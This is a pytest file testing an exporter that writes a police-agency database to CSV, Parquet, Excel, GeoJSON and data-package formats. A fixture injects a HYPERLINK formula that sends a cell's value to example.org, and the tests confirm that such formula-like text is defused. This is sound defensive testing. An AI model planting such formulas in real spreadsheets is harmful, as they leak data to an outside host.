"""The exported files: every row of the database in every form, described truly, the same bytes each time."""

import csv
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import duckdb
import pytest
from conftest import ROOT
from csvw import TableGroup
from dataset.problems import Problems
from export import export
from exports.data_dictionary import open_database, read_dictionary
from exports.formulas import defuse
from frictionless import Package
from geojson_pydantic import FeatureCollection
from openpyxl import load_workbook
from sampling import sample

DATABASE = ROOT / "clearview.db"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
Rows = dict[str, list[tuple[Any, ...]]]


@pytest.fixture(scope="module")
def rows() -> Rows:
    """Return every row of every table and view, as the database has it."""
    db = open_database(DATABASE)
    tables = [table.name for table in read_dictionary(db)]
    found = {table: db.execute(f"select * from [{table}]").fetchall() for table in tables}
    db.close()
    assert {"agencies", "reports", "coverage", "cleaning_log", "sources"} <= set(found)
    return found


@pytest.fixture
def spoilt(tmp_path: Path) -> Path:
    """Return a copy of the database in which an agency's name begins like a formula."""
    path = tmp_path / "clearview.db"
    path.write_bytes(DATABASE.read_bytes())
    db = sqlite3.connect(path)
    db.execute("update agencies set name = ? where id = 'xx-europol'", [FORMULA])
    db.commit()
    db.close()
    return path


def as_text(value: object) -> str:
    return "" if value is None else str(value)


def test_csv_and_json_lines_hold_every_row(exports: Path, rows: Rows) -> None:
    for table, expected in rows.items():
        with (exports / f"{table}.csv").open(newline="", encoding="utf-8") as file:
            assert list(csv.reader(file))[1:] == [[as_text(value) for value in row] for row in expected]
        lines = (exports / f"{table}.ndjson").read_text(encoding="utf-8").splitlines()
        assert [tuple(json.loads(line).values()) for line in lines] == expected
    assert (exports / "clearview.db").read_bytes() == DATABASE.read_bytes()


def test_parquet_read_by_duckdb_equals_the_database_cell_by_cell(exports: Path, rows: Rows) -> None:
    types = {"text": "VARCHAR", "integer": "BIGINT", "real": "DOUBLE"}
    for table in read_dictionary(open_database(DATABASE)):
        with duckdb.connect() as connection:
            read = connection.read_parquet(str(exports / f"{table.name}.parquet"))
            assert read.columns == [column.name for column in table.columns]
            assert [str(kind) for kind in read.types] == [types[column.type] for column in table.columns]
            found = read.fetchall()
        assert found == rows[table.name]
        assert [list(map(type, row)) for row in found] == [list(map(type, row)) for row in rows[table.name]]


def test_the_workbook_has_a_sheet_for_each_table_and_one_that_explains(exports: Path, rows: Rows) -> None:
    book = load_workbook(exports / "clearview.xlsx", read_only=True)
    assert book.sheetnames == ["README", *rows]
    for table, expected in rows.items():
        cells = list(book[table].iter_rows(values_only=True))[1:]
        # A cell cannot tell an empty text from nothing.
        assert cells == [tuple(None if value == "" else value for value in row) for row in expected]
    told = {cell for row in book["README"].iter_rows(values_only=True) for cell in row}
    assert any(str(cell).startswith("A listing is not an accusation") or " accusation." in str(cell) for cell in told)
    assert {
        "Stable identifier, made of the country's code and the name; links that use it keep working.",
        *rows,
    } <= told


def test_a_name_that_begins_like_a_formula_opens_as_text(spoilt: Path, tmp_path: Path) -> None:
    export(spoilt, tmp_path / "exports")
    with (tmp_path / "exports" / "agencies.csv").open(newline="", encoding="utf-8") as file:
        names = {row["id"]: row["name"] for row in csv.DictReader(file)}
    assert names["xx-europol"] == f"'{FORMULA}"
    sheet = load_workbook(tmp_path / "exports" / "clearview.xlsx")["agencies"]
    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "xx-europol")
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_a_text_too_long_for_a_cell_is_cut_in_the_workbook_alone(spoilt: Path, tmp_path: Path) -> None:
    long = "Zürich " * 6_000
    db = sqlite3.connect(spoilt)
    db.execute("update agencies set aliases = ? where id = 'xx-europol'", [long])
    db.commit()
    db.close()
    export(spoilt, tmp_path / "exports")
    sheet = load_workbook(tmp_path / "exports" / "clearview.xlsx")["agencies"]
    cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if len(str(cell.value)) > len(long) / 2]
    assert [len(cell) for cell in cells] == [32_767]
    assert cells[0].startswith(long[:32_000])
    assert cells[0].endswith("[cut to fit into a cell: 42,000 characters in all, which the other files have]")
    assert long in (tmp_path / "exports" / "agencies.csv").read_text("utf-8")


def test_only_texts_are_defused() -> None:
    assert [defuse(value) for value in ("+1", "-1", "@x", "\tx", "\r", -1, -1.5, None, "1-5", "")] == [
        "'+1", "'-1", "'@x", "'\tx", "'\r", -1, -1.5, None, "1-5", "",
    ]  # fmt: skip


def test_geojson_is_valid_and_holds_every_agency(exports: Path, rows: Rows) -> None:
    collection = FeatureCollection.model_validate_json((exports / "agencies.geojson").read_text(encoding="utf-8"))
    assert [feature.id for feature in collection.features] == [row[0] for row in rows["agencies"]]
    for feature, row in zip(collection.features, rows["agencies"], strict=True):
        assert feature.properties["name"] == row[1]
        place = feature.geometry.coordinates if feature.geometry else None  # type: ignore[union-attr]
        assert (tuple(place) if place else (None, None)) == (row[8], row[7])


def test_frictionless_finds_the_package_valid(exports: Path) -> None:
    command = [ROOT / ".venv" / "bin" / "frictionless", "validate", "datapackage.json"]
    result = subprocess.run(command, cwd=exports, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout
    assert result.stdout.count(" VALID ") == len(list(exports.iterdir())) - 1
    package = Package(exports / "datapackage.json")
    assert all(len(resource.read_rows()) == resource.rows for resource in package.resources if resource.type == "table")


FAULTS = {
    "reports.csv": ("ca-toronto-police-service", "ca-nobody", "foreign-key"),
    "agencies.csv": (",43.70643,", ",north,", "type-error"),
    "sources.csv": ("S002,", "S001,", "primary-key"),
    "countries.csv": ("CA,Canada,", "CA,,", "constraint-error"),
    "agencies.ndjson": ("Toronto", "Torento", "hash-count"),
}


@pytest.mark.parametrize("name", sample(FAULTS, ["countries.csv", "agencies.ndjson"]))
def test_frictionless_finds_a_fault_by_the_schema(exports: Path, tmp_path: Path, name: str) -> None:
    for path in exports.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    before, after, kind = FAULTS[name]
    text = (tmp_path / name).read_text(encoding="utf-8")
    assert before in text
    (tmp_path / name).write_text(text.replace(before, after, 1), encoding="utf-8")
    report = Package(tmp_path / "datapackage.json").validate()
    assert kind in {error.type for task in report.tasks for error in task.errors}


def test_csvw_describes_the_csv_files(exports: Path, rows: Rows) -> None:
    command = [ROOT / ".venv" / "bin" / "csvwvalidate", "csv-metadata.json"]
    result = subprocess.run(command, cwd=exports, capture_output=True, text=True, check=False)
    assert (result.returncode, "OK" in result.stdout) == (0, True), result.stdout
    group = TableGroup.from_file(exports / "csv-metadata.json")
    read = {str(table.url): list(table) for table in group.tables}
    assert {url: len(found) for url, found in read.items()} == {f"{table}.csv": len(rows[table]) for table in rows}
    toronto = next(row for row in read["agencies.csv"] if row["id"] == "ca-toronto-police-service")
    assert (toronto["latitude"], toronto["searches_min"]) == (43.70643, 3401)


def test_the_same_database_gives_the_same_bytes(exports: Path, tmp_path: Path) -> None:
    environment = os.environ | {"TZ": "Asia/Tokyo", "PYTHONHASHSEED": "7", "LC_ALL": "C"}
    command = [sys.executable, ROOT / "scripts" / "export.py", DATABASE, tmp_path]
    subprocess.run(command, check=True, capture_output=True, env=environment)
    names = sorted(path.name for path in exports.iterdir())
    assert names == sorted(path.name for path in tmp_path.iterdir())
    assert [name for name in names if (exports / name).read_bytes() != (tmp_path / name).read_bytes()] == []


def test_a_column_without_a_description_stops_the_export(spoilt: Path, tmp_path: Path) -> None:
    db = sqlite3.connect(spoilt)
    db.execute("alter table sources add column mood text")
    db.commit()
    db.close()
    with pytest.raises(Problems) as found:
        export(spoilt, tmp_path / "exports")
    assert [(problem.sheet, problem.column) for problem in found.value.problems] == [("sources", "mood")]
    assert list((tmp_path / "exports").iterdir()) == []
